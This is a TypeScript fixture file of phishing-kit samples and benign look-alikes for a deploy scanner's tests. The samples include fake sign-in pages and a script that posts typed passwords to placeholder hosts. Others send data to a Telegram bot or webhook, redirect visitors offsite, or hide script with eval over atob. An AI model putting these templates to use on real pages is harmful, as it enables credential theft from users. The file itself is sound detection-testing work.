// Pages and files for the deploy scan's tests, modelled on what phishing kits ship (a
// credential form posting elsewhere, a Telegram bot as the collector, a redirector, packed
// scripts) and on the ordinary pages that look like them and must pass. `rule` is what the
// scan must find, with the line of the offending element or call; null: nothing at all.

export interface ScanFixture {
  name: string;
  path: string;
  content: string | Uint8Array;
  rule: string | null;
  line?: number;
}

const BIG_BASE64 = Buffer.alloc(80 * 1024, "phish!").toString("base64"); // ~107 KB of base64

/** A Windows executable's first bytes: the DOS header (with its zeros) and a PE header. */
function peBytes(): Uint8Array {
  const b = new Uint8Array(512);
  b.set([0x4d, 0x5a, 0x90, 0x00, 0x03]);
  b[0x3c] = 0x80;
  b.set([0x50, 0x45, 0x00, 0x00], 0x80);
  return b;
}

export const truePositives: ScanFixture[] = [
  {
    name: "a sign-in form posting the password to another host",
    path: "index.html",
    rule: "credential-form-offsite",
    line: 9,
    content: `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Sign in to your account</title>
<link rel="stylesheet" href="style.css"></head>
<body>
  <main class="login">
    <h1>Sign in</h1>
    <p>Your session expired. Sign in again to read your messages.</p>
    <form method="post" action="https://secure-login-verify.example.net/next.php">
      <input type="email" name="login" placeholder="Email" required>
      <input type="password" name="passwd" placeholder="Password" required>
      <button type="submit">Next</button>
    </form>
  </main>
</body>
</html>
`,
  },
  {
    name: "a password form whose submit button overrides the action to another host",
    path: "login.html",
    rule: "credential-form-offsite",
    line: 6,
    content: `<!doctype html><title>Mail</title>
<form action="/login" id="f">
  <input name="user">
  <input type="password" name="pass">
</form>
<button form="f" formaction="//collector.example.org/p">Log in</button>
`,
  },
  {
    name: "a script that posts the password field's value elsewhere",
    path: "verify.html",
    rule: "credential-form-offsite",
    line: 11,
    content: `<!doctype html>
<html><head><title>Verify</title></head>
<body>
<form id="login" onsubmit="return false">
  <input id="email" type="email"><input id="password" type="password">
  <button id="go">Continue</button>
</form>
<script>
  document.getElementById("go").addEventListener("click", function () {
    var body = JSON.stringify({ email: document.getElementById("email").value, pw: document.getElementById("password").value });
    fetch("https://mail-secure.example.com/collect", { method: "POST", body: body });
  });
</script>
</body></html>
`,
  },
  {
    name: "a Telegram bot as the collector, the URL built in a script",
    path: "assets/app.js",
    rule: "exfiltration-endpoint",
    line: 2,
    content: `var chatId = "-100200300";
var api = "https://api.telegram.org/bot" + "6123456789:AAH-kit-token" + "/sendMessage";
function send(data) {
  var xhr = new XMLHttpRequest();
  xhr.open("POST", api);
  xhr.send(JSON.stringify({ chat_id: chatId, text: data }));
}
`,
  },
  {
    name: "a form posting to a Discord webhook",
    path: "survey.html",
    rule: "exfiltration-endpoint",
    line: 3,
    content: `<!doctype html><title>Win a gift card</title>
<p>Answer three questions.</p>
<form method="post" action="https://discord.com/api/webhooks/1234567890/AbCdEf">
  <input name="card"><button>Send</button>
</form>
`,
  },
  {
    name: "a collector loaded as a script source",
    path: "page.html",
    rule: "exfiltration-endpoint",
    line: 2,
    content: `<!doctype html><title>Page</title>
<script src="https://hooks.slack.com/services/T000/B000/XXXX"></script>
<p>Hello</p>
`,
  },
  {
    name: "index.html that leaves at once with a zero-second meta refresh",
    path: "index.html",
    rule: "instant-offsite-redirect",
    line: 4,
    content: `<!doctype html>
<html><head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0; URL='https://landing.example-promo.com/?ref=drop'">
<title>Loading</title></head><body></body></html>
`,
  },
  {
    name: "index.html that leaves at once with a top-level location assignment",
    path: "docs/index.html",
    rule: "instant-offsite-redirect",
    line: 3,
    content: `<!doctype html><html><head>
<script>
window.location.href = "https://redirect.example.biz/landing";
</script>
</head><body><p>Redirecting…</p></body></html>
`,
  },
  {
    name: "eval over atob",
    path: "loader.js",
    rule: "obfuscated-script",
    line: 2,
    content: `(function () {
  eval(atob("ZG9jdW1lbnQubG9jYXRpb249Imh0dHBzOi8vZXhhbXBsZS5jb20iOw=="));
})();
`,
  },
  {
    name: "document.write over unescape, through a variable, in an inline script",
    path: "inbox.html",
    rule: "obfuscated-script",
    line: 5,
    content: `<!doctype html><title>Inbox</title>
<body>
<script>
var p = unescape("%3C%66%6F%72%6D%20%61%63%74%69%6F%6E%3D%22%68%74%74%70%73%3A%2F%2F%65%76%69%6C%22%3E");
document.write(p);
</script>
</body>
`,
  },
  {
    name: "new Function over String.fromCharCode",
    path: "a.mjs",
    rule: "obfuscated-script",
    line: 1,
    content: `export const run = new Function(String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41));\n`,
  },
  {
    name: "a string literal of over 100 KB of base64 in a script",
    path: "blob.js",
    rule: "obfuscated-script",
    line: 2,
    content: `var x = 1;\nvar payload = "${BIG_BASE64}";\n`,
  },
  {
    name: "a Windows executable under an innocent name",
    path: "downloads/invoice.pdf",
    rule: "executable",
    line: 0,
    content: peBytes(),
  },
  {
    name: "an ELF binary",
    path: "bin/tool",
    rule: "executable",
    line: 0,
    content: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
  },
  {
    name: "a Mach-O binary",
    path: "mac/app",
    rule: "executable",
    line: 0,
    content: new Uint8Array([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0]),
  },
  {
    name: "a .scr file, whatever it holds",
    path: "screensaver.SCR",
    rule: "executable",
    line: 0,
    content: "not really a screensaver",
  },
  {
    name: "a password page under a brand's name",
    path: "account/index.html",
    rule: "brand-lure",
    line: 3,
    content: `<!doctype html>
<html><head><meta charset="utf-8">
<title>Log in to your PayPal account</title></head>
<body>
<form action="/account/next" method="post">
<input name="email"><input type="password" name="password">
<button>Log In</button>
</form>
</body></html>
`,
  },
];

export const benignLookAlikes: ScanFixture[] = [
  {
    name: "a login form posting to the drop's own path",
    path: "index.html",
    rule: null,
    content: `<!doctype html>
<html><head><title>Members</title></head>
<body>
<form method="post" action="/members/login">
  <input name="user"><input type="password" name="password"><button>Sign in</button>
</form>
<form method="post" action="">
  <input type="password" name="again">
</form>
</body></html>
`,
  },
  {
    name: "a login form posting to the drop's own host by absolute URL",
    path: "login.html",
    rule: null,
    content: `<!doctype html><title>Login</title>
<form action="https://own-drop.drops.test/login"><input type="password" name="p"></form>
`,
  },
  {
    name: "a search form (no password) posting to another host",
    path: "search.html",
    rule: null,
    content: `<!doctype html><title>Search</title>
<form action="https://duckduckgo.com/" method="get"><input name="q"><button>Search</button></form>
`,
  },
  {
    name: "a five-second meta refresh to another host",
    path: "index.html",
    rule: null,
    content: `<!doctype html><html><head>
<meta http-equiv="refresh" content="5; url=https://new-home.example.org/">
<title>We moved</title></head>
<body><p>This site moved to <a href="https://new-home.example.org/">new-home.example.org</a>.</p></body></html>
`,
  },
  {
    name: "an instant meta refresh within the drop",
    path: "index.html",
    rule: null,
    content: `<!doctype html><meta http-equiv="refresh" content="0; url=/en/"><title>Go</title>\n`,
  },
  {
    name: "an instant redirect elsewhere on a page that is not index.html",
    path: "go/twitter.html",
    rule: null,
    content: `<!doctype html><meta http-equiv="refresh" content="0;url=https://twitter.com/example">\n`,
  },
  {
    name: "a location change in a click handler, and one after the page's content",
    path: "index.html",
    rule: null,
    content: `<!doctype html><html><head><title>Links</title>
<script>function go() { location.href = "https://example.org/"; }</script></head>
<body><h1>Links</h1><p>Pick one.</p>
<script>location.replace("https://example.org/after");</script>
<button onclick="go()">Go</button></body></html>
`,
  },
  {
    name: "a page that mentions a brand without a password field",
    path: "index.html",
    rule: null,
    content: `<!doctype html><html><head><title>Pay with PayPal or Apple Pay</title></head>
<body><h1>Checkout help for Amazon sellers</h1>
<form action="/subscribe"><input type="email" name="email"><button>Subscribe</button></form>
</body></html>
`,
  },
  {
    name: "a password page whose title holds a brand only inside another word",
    path: "fruit.html",
    rule: null,
    content: `<!doctype html><title>Pineapple club members</title>
<form action="/in"><input type="password" name="pw"></form>
`,
  },
  {
    name: "a tutorial that shows a Telegram bot URL as text",
    path: "blog/telegram-bots.html",
    rule: null,
    content: `<!doctype html><title>Writing a Telegram bot</title>
<p>Call <code>https://api.telegram.org/bot&lt;token&gt;/getMe</code> to test your token.</p>
<pre>curl https://api.telegram.org/bot123:abc/sendMessage</pre>
<a href="https://core.telegram.org/bots/api">Bot API reference</a>
`,
  },
  {
    name: "a script that decodes base64 to show it, never evaluating it",
    path: "decode.js",
    rule: null,
    content: `const text = atob(document.querySelector("#in").value);
document.querySelector("#out").textContent = text;
document.write("<p>Decoded.</p>");
const cfg = JSON.parse(atob("eyJhIjoxfQ=="));
`,
  },
  {
    name: "a large inline image as a data URL in a script",
    path: "sprite.js",
    rule: null,
    content: `export const sprite = "data:image/png;base64,${BIG_BASE64}";\n`,
  },
  {
    name: "an analytics beacon on a login page (no password sent)",
    path: "signin.html",
    rule: null,
    content: `<!doctype html><title>Sign in</title>
<form action="/session"><input name="u"><input type="password" name="p"></form>
<script>navigator.sendBeacon("https://stats.example.com/hit", JSON.stringify({ path: location.pathname }));</script>
`,
  },
  {
    name: "a text file that starts with MZ",
    path: "notes/MZ.txt",
    rule: null,
    content: "MZ Lab notes: the microscope is booked on Tuesdays.\nBring your own slides. ".repeat(2),
  },
  {
    name: "a file whose name only contains exe",
    path: "exercises/exe.html.txt",
    rule: null,
    content: "exercises",
  },
  {
    name: "a JSON file that looks like nothing in particular",
    path: "data.json",
    rule: null,
    content: `{"login": "https://api.telegram.org/bot", "eval": "atob"}`,
  },
];
